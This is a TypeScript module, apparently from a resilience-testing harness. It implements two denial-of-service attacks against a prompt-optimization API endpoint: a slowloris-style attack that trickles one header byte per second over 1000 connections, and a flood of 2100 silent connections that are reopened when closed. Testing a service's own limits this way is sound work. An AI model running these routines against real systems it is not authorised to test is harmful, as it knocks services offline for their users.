import type { AttackReport, AttackTarget } from './attack.ts'
import { keepConnections } from './open-attack-connection.ts'

const connections = 1000
const byteMs = 1000
const head = 'POST /api/v1/prompts/optimize HTTP/1.1\r\nhost: attack\r\nx-slow: '

/** Connections that say one byte of a header a second, and never come to its end. */
export function slowClients(target: AttackTarget): Promise<AttackReport> {
  return keepConnections(target, connections, (socket) => {
    socket.write(head)
    const timer = setInterval(() => socket.writable && socket.write('a'), byteMs)
    socket.once('close', () => clearInterval(timer))
  })
}

/** More than the API takes from all clients together. */
const silentConnectionsCount = 2100

/** Connections of one client that send nothing; each that is ended is opened anew. */
export function silentConnections(target: AttackTarget): Promise<AttackReport> {
  return keepConnections(target, silentConnectionsCount, () => {})
}
